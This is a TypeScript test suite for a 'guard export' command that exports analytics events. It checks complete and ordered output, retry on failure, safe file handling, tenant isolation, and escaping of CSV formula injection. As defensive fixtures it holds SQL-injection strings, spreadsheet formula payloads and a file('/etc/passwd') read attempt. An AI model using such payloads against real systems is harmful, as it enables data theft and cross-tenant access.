import { spawnSync } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setImmediate as turn } from 'node:timers/promises';
import Fastify from 'fastify';
import { openAnalytics } from '@guard/analytics';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type CommandResult, runCommand } from '../../cli/src/testing/run-command.ts';
import { createRecorders } from '../../analytics/src/testing/recorders.ts';
import { until } from '../../analytics/src/testing/until.ts';
import { sampleEvent } from '../kit/product/sample-event.ts';
import { serve } from '../kit/serve.ts';
import { testFolder } from '../kit/test-folder.ts';

/** These tests run `guard export` with the query service and the database of a running Guard. */

const folder = testFolder();
const KEYS: Readonly<Record<string, string>> = {
  'Bearer sk_api_ro_acme': 'acme',
  'Bearer sk_api_ro_other': 'other',
};
const { log, metrics } = createRecorders();
const analytics = await openAnalytics({
  settings: { engine: 'embedded', path: join(folder, 'analytics') },
  organisations: [{ id: 'acme' }, { id: 'other' }],
  authenticate: (authorization = '') => {
    const organisation = KEYS[authorization];
    return organisation === undefined ? undefined : { organisation, key: 'tests' };
  },
  clock: Date.now,
  log,
  metrics,
});
const app = Fastify();
let api = '';
/** If set, replaces answers of the query service. */
let replaceAnswer: (
  requestCount: number,
  answerBytes: number,
) => { readonly status: number; readonly text: string } | 'broken' | undefined;
let askedCount = 0;
/** A server in front of the query service, which uses `replaceAnswer`. */
let failingApi = '';

const ROWS = 9_000;
const START_MS = Date.now();
/** The rows are in three hours. Several thousand rows have the same millisecond. */
const MOMENTS = [START_MS - 3_600_000, START_MS - 2 * 3_600_000, START_MS - 26 * 3_600_000];

beforeAll(async () => {
  await app.register(analytics.routes);
  await app.listen({ host: '127.0.0.1', port: 0 });
  api = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
  failingApi = await serve((request, response) => {
    void (async () => {
      const parts: Buffer[] = [];
      for await (const part of request as AsyncIterable<Buffer>) parts.push(part);
      const headers = { authorization: request.headers.authorization ?? '' };
      const body = Buffer.concat(parts);
      const answer = await fetch(`${api}/query`, { method: 'POST', headers, body });
      const rows = Buffer.from(await answer.arrayBuffer());
      askedCount += 1;
      const replacement = replaceAnswer(askedCount, rows.length);
      if (replacement === 'broken') return response.destroy();
      if (replacement !== undefined)
        return response.writeHead(replacement.status).end(replacement.text);
      return response.writeHead(answer.status).end(rows);
    })();
  }, afterAll);
  for (let at = 0; at < ROWS; at += 1) {
    analytics.sink.record(
      sampleEvent({
        createdAt: (MOMENTS[at % MOMENTS.length] ?? 0) + (at % 5 === 0 ? at : 0),
        ip: `203.0.113.${at % 200}`,
        query: `n=${at}&"quoted",\n\\`,
        headers: { accept: 'x'.repeat(at % 300), 'user-agent': `agent "${at}"` },
      }),
    );
    if (at % 200 === 0) await turn();
  }
  analytics.sink.record(
    sampleEvent({
      organisation: 'other',
      ip: '198.51.100.1',
      userAgent: '=HYPERLINK("https://a.example/"&A1,"=x");=1;"@b;c',
      method: '＝1',
      query: '@a\n"=b",=c',
      host: '',
      path: '"=x',
    }),
  );
  await until('all rows are there', async () => {
    const outcome = await analytics.runQuery({
      organisation: 'acme',
      sql: 'SELECT count() FROM events',
    });
    return outcome.kind === 'rows' && Buffer.from(outcome.body).toString() === `${ROWS}\n`;
  });
}, 60_000);
afterAll(async () => {
  await app.close();
  await analytics.close();
});
beforeEach(() => {
  askedCount = 0;
  replaceAnswer = () => undefined;
});

function guardExport(...args: readonly string[]): Promise<CommandResult> {
  return runCommand('export', '--api', api, '--key', 'sk_api_ro_acme', ...args);
}

/** Runs a statement about an exported file in a new engine. */
function readBack(sql: string): string {
  const code = `import('chdb').then(({ query }) => process.stdout.write(String(query(process.argv[1], 'TSV'))))`;
  const result = spawnSync(process.execPath, ['-e', code, sql], { encoding: 'utf8' });
  return result.stdout.trim() + result.stderr;
}

async function fromDatabase(sql: string): Promise<string> {
  const outcome = await analytics.runQuery({ organisation: 'acme', sql });
  return outcome.kind === 'rows'
    ? Buffer.from(outcome.body).toString().trim()
    : JSON.stringify(outcome);
}

/** Its result changes when one row is lost, is repeated, or has another value. */
const SUM =
  'count(), uniqExact(request_id), sum(cityHash64(toString(request_id), query, ip, path, length(block_reasons)))';

describe('guard export writes each row once, although a statement has limits', () => {
  test.each(['parquet', 'csv', 'jsonl'])(
    '%s has all rows, and the engine reads the same values in it',
    async (format) => {
      const outFile = join(folder, `all.${format}`);
      const { code, stdout, stderr } = await guardExport('--out', outFile, '--json');
      expect([code, stderr]).toEqual([0, '']);
      expect(JSON.parse(stdout)).toMatchObject({
        file: outFile,
        format,
        rows: ROWS,
        bytes: statSync(outFile).size,
      });
      expect(statSync(outFile).mode & 0o777).toBe(0o600);
      const sum = format === 'csv' ? SUM.replace('length(block_reasons)', 'toUInt64(2)') : SUM;
      expect(readBack(`SELECT ${sum} FROM file('${outFile}')`)).toBe(
        await fromDatabase(`SELECT ${SUM} FROM events`),
      );
    },
  );

  test('rows are in the order of time and then of request_id', async () => {
    const outFile = join(folder, 'ordered.jsonl');
    await guardExport('--out', outFile, '--columns', 'created_at,request_id');
    const orderedRows = await fromDatabase(
      'SELECT created_at, request_id FROM events ORDER BY created_at, request_id FORMAT JSONEachRow',
    );
    expect(readFileSync(outFile, 'utf8').trim()).toBe(orderedRows);
  });

  test('options choose a time, a condition and columns, and the condition may end with a comment', async () => {
    const { stdout } = await guardExport(
      ...[
        '--last',
        '20h',
        '--where',
        "ip = '203.0.113.7' -- one visitor",
        '--format',
        'csv',
        '--columns',
        'ip, path',
      ],
    );
    const count = await fromDatabase(
      `SELECT count() FROM events WHERE ip = '203.0.113.7' AND created_at > now() - INTERVAL 20 HOUR`,
    );
    expect(stdout).toBe(`"ip","path"\n${'"203.0.113.7","/login"\n'.repeat(Number(count))}`);
    const rangeExport = await guardExport(
      ...[
        '--from',
        new Date(START_MS - 30 * 3_600_000).toISOString(),
        '--to',
        new Date(START_MS - 20 * 3_600_000).toISOString(),
      ],
      ...['--columns', 'created_at'],
    );
    expect(rangeExport.stderr).toMatch(/^3000 rows, /);
  });

  test('pages of rows that are refused for their size are requested again in smaller parts, and no row is lost or repeated', async () => {
    replaceAnswer = (_asked, bytes) =>
      bytes > 100_000 ? { status: 502, text: 'The answer is larger than 4 MiB.' } : undefined;
    const outFile = join(folder, 'halved.parquet');
    const { code } = await guardExport('--api', failingApi, '--out', outFile);
    expect(code).toBe(0);
    expect(readBack(`SELECT ${SUM} FROM file('${outFile}')`)).toBe(
      await fromDatabase(`SELECT ${SUM} FROM events`),
    );
  });
});

describe('an incomplete file never looks complete', () => {
  test.each([
    ['the key is revoked', () => ({ status: 401, text: '' }), /the analytics key is not valid/],
    [
      'the answer has no end',
      () => ({ status: 200, text: 'PAR1 and no footer' }),
      /no whole Parquet file|the position of an event/,
    ],
  ])(
    'when %s during the export, there is no file, and the exit code is 1',
    async (_what, answer, messagePart) => {
      const outFile = join(folder, 'broken.parquet');
      replaceAnswer = (count) => (count > 4 ? answer() : undefined);
      const { code, stderr } = await guardExport('--api', failingApi, '--out', outFile);
      expect([code, stderr]).toEqual([1, expect.stringMatching(messagePart)]);
      expect(stderr).toContain('no file was written');
      expect(readdirSync(folder).filter((name) => name.startsWith('broken'))).toEqual([]);
    },
  );

  test('the export continues after a broken connection', async () => {
    const outFile = join(folder, 'cut.jsonl');
    replaceAnswer = (count) => (count === 4 || count === 7 ? 'broken' : undefined);
    expect((await guardExport('--api', failingApi, '--out', outFile)).code).toBe(0);
    expect(readFileSync(outFile, 'utf8').split('\n')).toHaveLength(ROWS + 1);
  });

  test('an existing file is replaced only with --force', async () => {
    const outFile = join(folder, 'kept.csv');
    writeFileSync(outFile, 'mine');
    const refusedExport = await guardExport('--out', outFile);
    expect([refusedExport.code, refusedExport.stderr]).toEqual([
      1,
      expect.stringContaining('is there already'),
    ]);
    expect(readFileSync(outFile, 'utf8')).toBe('mine');
    expect((await guardExport('--out', outFile, '--force', '--last', '1s')).code).toBe(0);
    expect(readFileSync(outFile, 'utf8')).toMatch(/^"created_at",.*\n$/);
  });

  test('a link, a folder and a device are never replaced, even with --force', async () => {
    const place = (name: string): string => join(folder, name);
    const [aim, link, pipe] = [place('aim.csv'), place('link.csv'), place('pipe.csv')] as const;
    writeFileSync(aim, 'mine');
    symlinkSync(aim, link);
    spawnSync('mkfifo', [pipe]);
    for (const target of [link, pipe, folder]) {
      const { code, stderr } = await guardExport('--out', target, '--force', '--last', '1s');
      expect([code, stderr]).toEqual([1, expect.stringContaining('a link, a folder or a device')]);
    }
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(lstatSync(pipe).isFIFO()).toBe(true);
    expect(readFileSync(aim, 'utf8')).toBe('mine');
  });

  test('a Parquet file without rows has its columns', async () => {
    const outFile = join(folder, 'none.parquet');
    expect((await guardExport('--out', outFile, '--where', "ip = '192.0.2.1'")).code).toBe(0);
    expect(readBack(`SELECT count(), count(ip) FROM file('${outFile}')`)).toBe('0\t0');
  });
});

test('a key exports only the rows of its own organisation', async () => {
  const { stdout } = await guardExport('--key', 'sk_api_ro_other', '--columns', 'organisation,ip');
  expect(stdout).toBe('{"organisation":"other","ip":"198.51.100.1"}\n');
  const attempt = await guardExport(
    '--where',
    "organisation = 'other' OR 1",
    '--columns',
    'organisation',
    '--last',
    '3h',
  );
  expect(new Set(attempt.stdout.trim().split('\n'))).toEqual(new Set(['{"organisation":"acme"}']));
});

test('in CSV a spreadsheet reads no text of a visitor as a formula; other formats have the text unchanged', async () => {
  const args = ['--key', 'sk_api_ro_other', '--columns', 'user_agent,method,query,host,path,ip'];
  const { stdout, stderr } = await guardExport(...args, '--format', 'csv');
  expect(stdout.slice(stdout.indexOf('\n') + 1)).toBe(
    `"'=HYPERLINK(""https://a.example/""&A1,""=x"");'=1;""'@b;c","'＝1","'@a\n""'=b"",=c","","""=x","198.51.100.1"\n`,
  );
  expect(stderr).toMatch(/^1 row, /);
  expect(JSON.parse((await guardExport(...args)).stdout)).toMatchObject({
    user_agent: '=HYPERLINK("https://a.example/"&A1,"=x");=1;"@b;c',
  });
});

test.each([
  [['--where', "1) OR (ip != ''"], 'closes a parenthesis'],
  [['--where', '1; SELECT 2'], 'semicolon'],
  [['--columns', 'ip FROM system.one'], '--columns takes names'],
  [['--format', 'xml'], '--format is one of: jsonl, csv, parquet'],
  [['--last', '7 days'], '--last takes a duration'],
  [['--last', '7d', '--from', '2026-11-01'], 'either --last or --from'],
  [['--from', '2026-11-01T12:00'], 'a time with its zone'],
  [['--json'], '--json needs --out FILE'],
])('guard export refuses the arguments %j', async (args, message) => {
  const { code, stderr } = await guardExport(...args);
  expect([code, stderr]).toEqual([2, expect.stringContaining(message)]);
});

test.each([
  ['nothing = 1', 'nothing'],
  ["file('/etc/passwd') != ''", 'file is not available'],
])('--where "%s" leads to a message, and to no file', async (condition, message) => {
  const outFile = join(folder, 'refused.jsonl');
  const { code, stderr } = await guardExport('--where', condition, '--out', outFile);
  expect([code, stderr]).toEqual([1, expect.stringContaining(message)]);
  expect(existsSync(outFile)).toBe(false);
});
